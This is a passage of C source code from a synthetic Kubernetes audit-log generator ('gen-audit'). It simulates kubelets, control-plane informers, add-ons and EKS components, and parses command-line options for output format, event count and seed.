    cl_obj(&r, install ? "create" : "update", "rbac.authorization.k8s.io", "v1", "clusterroles",
           NULL, install ? NULL : "aws-load-balancer-controller-elbv2", NULL);
    puts_(&body_req, "{\"kind\":\"ClusterRole\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\","
                     "\"metadata\":{\"name\":\"aws-load-balancer-controller-elbv2\",\"labels\":{"
                     "\"app.kubernetes.io/name\":\"aws-load-balancer-controller\"}},\"rules\":[{"
                     "\"apiGroups\":[\"elbv2.k8s.aws\"],\"resources\":[\"*\"],\"verbs\":[\"*\"]},{"
                     "\"apiGroups\":[\"\"],\"resources\":[\"events\"],\"verbs\":[\"create\","
                     "\"patch\"]}]}");
    r.reqobj = r.respobj = &body_req;
    cl_done(&r, &t);
    return now + secs(20 * 3600, 28 * 3600);
}

static int64_t cluster_fire(struct actor *a, int64_t now)
{
    switch (a->kind) {
    case K_NODE_LEASE:
        return fire_node_lease(a, now);
    case K_NODE_STATUS:
        return fire_node_status(a, now);
    case K_NODE_TOKEN:
        return fire_node_token(a, now);
    case K_NODE_REVIEWS:
        return fire_node_reviews(a, now);
    case K_WATCH:
        return fire_watch(a, now);
    case K_LEADER:
        return fire_leader(a, now);
    case K_APISERVER:
        return fire_apiserver(a, now);
    case K_CHURN:
        return fire_churn(a, now);
    case K_POD:
        return fire_pod(a, now);
    case K_PODDEL:
        return fire_poddel(a, now);
    case K_HPA:
        return fire_hpa(a, now);
    case K_CERTMGR:
        return fire_certmgr(a, now);
    case K_ESO:
        return fire_eso(a, now);
    case K_ARGO:
        return fire_argo(a, now);
    case K_DEPLOY:
        return fire_deploy(a, now);
    case K_HUMAN:
        return fire_human(a, now);
    case K_SESSION:
        return fire_session(a, now);
    case K_JOIN:
        return fire_join(a, now);
    case K_EKS_CERT:
        return fire_eks_cert(a, now);
    case K_EKS_NODEMGR:
        return fire_eks_nodemgr(a, now);
    case K_EKS_ADDON:
        return fire_eks_addon(a, now);
    case K_ALB:
        return fire_alb(a, now);
    }
    return -1;
}

/* The cluster at --start, every actor in place, then run until --events are written. */
static void cluster_run(void)
{
    int64_t t0 = clock_us;
    cl_last = t0;
    for (size_t i = 0; i < sizeof(apps) / sizeof(apps[0]); i++) {
        for (int k = 0; k < 10; k++) {
            apps[i].hash[k] = "bcdfghjklmnpqrstvwxz2456789"[below(27)];
        }
        apps[i].rev = 3 + below(40);
    }
    for (int i = 0; i < CL_NODES; i++) {
        struct node *n = &nodes[i];
        node_make(i);
        n->apps[n->napps++] = APP_AWS_NODE;
        n->apps[n->napps++] = APP_KUBE_PROXY;
        while (n->napps < 6) {
            n->apps[n->napps++] = (int)below(N_USER_APPS);
        }
    }
    /* kubelets: informers of their node, their pods, Services, RuntimeClasses, CSIDrivers, and
     * one reflector per Secret and ConfigMap their pods mount */
    for (int i = 0; i < CL_NODES; i++) {
        struct node *n = &nodes[i];
        char sel[128];
        spawn(K_NODE_LEASE, i, t0 + secs(0, 10));
        spawn(K_NODE_STATUS, i, t0 + secs(0, 300));
        spawn(K_NODE_TOKEN, i, t0 + secs(0, 144));
        spawn(K_NODE_REVIEWS, i, t0 + secs(0, 300));
        snprintf(sel, sizeof(sel), "metadata.name%%3D%.64s", n->name);
        add_watch(-1, i, "nodes", NULL, sel);
        snprintf(sel, sizeof(sel), "spec.nodeName%%3D%.64s", n->name);
        add_watch(-1, i, "pods", NULL, sel);
        add_watches(-1, i, "services node.k8s.io/v1/runtimeclasses storage.k8s.io/v1/csidrivers");
        add_watches(W_PROXY, i, "services discovery.k8s.io/v1/endpointslices");
        for (int k = 0; k < n->napps; k++) {
            const struct app *ap = &apps[n->apps[k]];
            int dup = 0;
            for (int j = 0; j < k; j++) {
                dup |= strcmp(apps[n->apps[j]].ns, ap->ns) == 0;
            }
            if (!dup) {
                add_watch(-1, i, "configmaps", ap->ns, "metadata.name%3Dkube-root-ca.crt");
            }
            if (n->apps[k] == APP_AWS_NODE) {
                add_watch(-1, i, "configmaps", ap->ns, "metadata.name%3Damazon-vpc-cni");
                continue;
            }
            if (n->apps[k] == APP_KUBE_PROXY) {
                add_watch(-1, i, "configmaps", ap->ns, "metadata.name%3Dkube-proxy-config");
                continue;
            }
            snprintf(sel, sizeof(sel), "metadata.name%%3D%s-config", ap->name);
            add_watch(-1, i, "configmaps", ap->ns, sel);
            snprintf(sel, sizeof(sel), "metadata.name%%3D%s-secrets", ap->name);
            add_watch(-1, i, "secrets", ap->ns, sel);
        }
    }
    /* shared informers of the control plane, add-ons and operators */
    add_watches(W_KCM, -1,
                "pods nodes services endpoints namespaces serviceaccounts secrets configmaps "
                "persistentvolumes persistentvolumeclaims resourcequotas limitranges podtemplates "
                "replicationcontrollers apps/v1/deployments apps/v1/replicasets apps/v1/daemonsets "
                "apps/v1/statefulsets apps/v1/controllerrevisions batch/v1/jobs batch/v1/cronjobs "
                "discovery.k8s.io/v1/endpointslices policy/v1/poddisruptionbudgets "
                "autoscaling/v2/horizontalpodautoscalers "
                "certificates.k8s.io/v1/certificatesigningrequests "
                "rbac.authorization.k8s.io/v1/roles rbac.authorization.k8s.io/v1/rolebindings "
                "rbac.authorization.k8s.io/v1/clusterroles "
                "rbac.authorization.k8s.io/v1/clusterrolebindings storage.k8s.io/v1/storageclasses "
                "storage.k8s.io/v1/csinodes storage.k8s.io/v1/volumeattachments "
                "coordination.k8s.io/v1/leases networking.k8s.io/v1/ingresses "
                "networking.k8s.io/v1/networkpolicies");
    add_watches(W_SCHED, -1,
                "pods nodes services namespaces persistentvolumes persistentvolumeclaims "
                "replicationcontrollers apps/v1/replicasets apps/v1/statefulsets "
                "policy/v1/poddisruptionbudgets storage.k8s.io/v1/storageclasses "
                "storage.k8s.io/v1/csinodes storage.k8s.io/v1/csidrivers "
                "storage.k8s.io/v1/csistoragecapacities");
    for (int i = 0; i < 2; i++) {
        add_watches(W_COREDNS, -1, "services namespaces discovery.k8s.io/v1/endpointslices");
    }
    add_watches(W_ARGO, -1,
                "pods services endpoints configmaps secrets serviceaccounts namespaces "
                "persistentvolumeclaims apps/v1/deployments apps/v1/replicasets apps/v1/daemonsets "
                "apps/v1/statefulsets batch/v1/jobs batch/v1/cronjobs "
                "networking.k8s.io/v1/ingresses networking.k8s.io/v1/networkpolicies "
                "rbac.authorization.k8s.io/v1/roles rbac.authorization.k8s.io/v1/rolebindings "
                "rbac.authorization.k8s.io/v1/clusterroles "
                "rbac.authorization.k8s.io/v1/clusterrolebindings policy/v1/poddisruptionbudgets "
                "autoscaling/v2/horizontalpodautoscalers discovery.k8s.io/v1/endpointslices "
                "argoproj.io/v1alpha1/applications argoproj.io/v1alpha1/appprojects "
                "cert-manager.io/v1/certificates cert-manager.io/v1/issuers "
                "external-secrets.io/v1beta1/externalsecrets "
                "apiextensions.k8s.io/v1/customresourcedefinitions "
                "admissionregistration.k8s.io/v1/validatingwebhookconfigurations "
                "admissionregistration.k8s.io/v1/mutatingwebhookconfigurations");
    add_watches(W_CERTMGR, -1,
                "secrets cert-manager.io/v1/certificates cert-manager.io/v1/certificaterequests "
                "cert-manager.io/v1/issuers cert-manager.io/v1/clusterissuers "
                "acme.cert-manager.io/v1/orders acme.cert-manager.io/v1/challenges "
                "networking.k8s.io/v1/ingresses");
    add_watches(W_CAINJ, -1,
                "admissionregistration.k8s.io/v1/validatingwebhookconfigurations "
                "admissionregistration.k8s.io/v1/mutatingwebhookconfigurations "
                "apiextensions.k8s.io/v1/customresourcedefinitions");
    add_watches(W_ESO, -1,
                "secrets external-secrets.io/v1beta1/externalsecrets "
                "external-secrets.io/v1beta1/secretstores "
                "external-secrets.io/v1beta1/clustersecretstores");
    add_watches(W_ALB, -1,
                "services endpoints pods nodes networking.k8s.io/v1/ingresses "
                "networking.k8s.io/v1/ingressclasses elbv2.k8s.aws/v1beta1/targetgroupbindings "
                "elbv2.k8s.aws/v1beta1/ingressclassparams");
    add_watches(W_METRICS, -1, "nodes pods");
    add_watches(W_EKS_PODID, -1, "serviceaccounts");
    add_watches(W_EKS_CCM, -1, "nodes services");
    add_watch(W_EKS_AUTH, -1, "configmaps", "kube-system", "metadata.name%3Daws-auth");
    for (size_t i = 0; i < sizeof(leaders) / sizeof(leaders[0]); i++) {
        spawn(K_LEADER, (int)i, t0 + secs(0, leaders[i].period));
    }
    for (int i = 0; i < 2; i++) {
        struct actor *a = spawn(K_APISERVER, i, t0 + secs(0, 10));
        snprintf(a->pod, sizeof(a->pod), "%08x%08x", (unsigned)rnd(), (unsigned)rnd());
    }
    static const int hpas[] = {0, 2, 3, 4, 5};
    for (int i = 0; i < 5; i++) {
        spawn(K_HPA, hpas[i], t0 + secs(0, 15));
    }
    spawn(K_CHURN, 0, t0 + secs(0, 30));
    spawn(K_CERTMGR, 0, t0 + secs(0, 60));
    spawn(K_ESO, 0, t0 + secs(0, 90));
    spawn(K_ARGO, 0, t0 + secs(0, 18));
    spawn(K_DEPLOY, 0, t0 + secs(300, 900));
    spawn(K_HUMAN, 0, t0 + secs(30, 300));
    spawn(K_JOIN, 0, t0 + secs(180, 420));
    spawn(K_EKS_CERT, 0, t0 + secs(0, 2));
    spawn(K_EKS_NODEMGR, 0, t0 + secs(0, 300));
    spawn(K_EKS_ADDON, 0, t0 + secs(0, 900));
    spawn(K_ALB, 0, t0 + secs(240, 480));

    while (sink.written < sink.limit && heap_n > 0) {
        struct actor *a = heap_pop();
        int64_t next = cluster_fire(a, a->at);
        if (next < 0) {
            free(a);
        } else {
            a->at = next;
            heap_push(a);
        }
    }
    while (heap_n > 0) {
        free(heap_pop());
    }
    free(heap);
}

static void usage(void)
{
    fputs("usage: gen-audit [--seed N] [--events N] [--format lines|pretty|eventlist|array]\n"
          "                 [--batch N] [--risky PCT] [--start RFC3339]\n"
          "                 [--profile default|cluster] [-o FILE]\n",
          stderr);
}

int main(int argc, char **argv)
{
    uint64_t seed = 1, events = 1000;
    unsigned batch = 400;
    const char *format = "lines", *out_path = NULL;
    int cluster = 0; /* --profile cluster */
    risky_pct = 2;
    clock_us = 1714521600LL * 1000000; /* 2024-05-01T00:00:00Z */
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (v == NULL && strcmp(a, "-h") != 0 && strcmp(a, "--help") != 0) {
            usage();
            return 2;
        }
        if (strcmp(a, "--seed") == 0) {
            seed = strtoull(v, NULL, 10);
        } else if (strcmp(a, "--events") == 0) {
            events = strtoull(v, NULL, 10);
        } else if (strcmp(a, "--format") == 0) {
            format = v;
        } else if (strcmp(a, "--batch") == 0) {
            batch = (unsigned)strtoul(v, NULL, 10);
        } else if (strcmp(a, "--risky") == 0) {
            risky_pct = (unsigned)strtoul(v, NULL, 10);
        } else if (strcmp(a, "--start") == 0) {
            if (parse_start(v, &clock_us) != 0) {
                fprintf(stderr, "gen-audit: --start: not a timestamp: %s\n", v);
                return 2;
            }
        } else if (strcmp(a, "--profile") == 0) {
            if (strcmp(v, "cluster") == 0) {
                cluster = 1;
            } else if (strcmp(v, "default") == 0) {
                cluster = 0;
            } else {
                fprintf(stderr, "gen-audit: --profile: default or cluster, not %s\n", v);
                return 2;
            }
        } else if (strcmp(a, "-o") == 0) {
            out_path = v;
        } else {
            usage();
            return 2;
        }
        i++;
    }
    int fmt = strcmp(format, "lines") == 0       ? 0
              : strcmp(format, "pretty") == 0    ? 1
              : strcmp(format, "eventlist") == 0 ? 2
              : strcmp(format, "array") == 0     ? 3
                                                 : -1;
    if (fmt < 0 || batch == 0) {
        usage();
        return 2;
    }
    FILE *out = out_path ? fopen(out_path, "w") : stdout;
    if (out == NULL) {
        perror(out_path);
        return 1;
    }
    static char iobuf[1 << 20];
    setvbuf(out, iobuf, _IOFBF, sizeof(iobuf));
    rng_state = seed * 0x2545f4914f6cdd1dULL + 1;

    sink.out = out;
    sink.fmt = fmt;
    sink.batch = batch;
    sink.limit = events;
    if (fmt == 3) {
        fputs("[\n", out);
    }
    if (cluster) {
        cluster_run();
    }
    struct req r;
    while (!cluster && sink.written < events) {
        char id[37];
        make_request(&r);
        uuid(id);
        int64_t recv = clock_us;
        clock_us += 1000 + below(60000); /* about 30 requests a second */
        int nstages = (r.watch || r.started_only) ? 2 : 1;
        for (int s = 0; s < nstages && sink.written < events; s++) {
            const char *stage = nstages == 2 && s == 0 ? "ResponseStarted" : "ResponseComplete";
            int64_t at = clock_us;
            if (s == 1) {
                at += r.watch ? 60000000 : 5000000;
            }
            sink.ev.len = 0;
            emit_event(&sink.ev, &r, id, stage, recv, at);
            sink_write();
        }
    }
    if (fmt == 2 && sink.in_list > 0) {
        fputs("]}\n", out);
    }
    if (fmt == 3) {
        fputs("\n]\n", out);
    }
    free(sink.ev.p);
    free(sink.pbuf.p);
    if (fclose(out) != 0) {
        perror("gen-audit");
        return 1;
    }
    return 0;
}
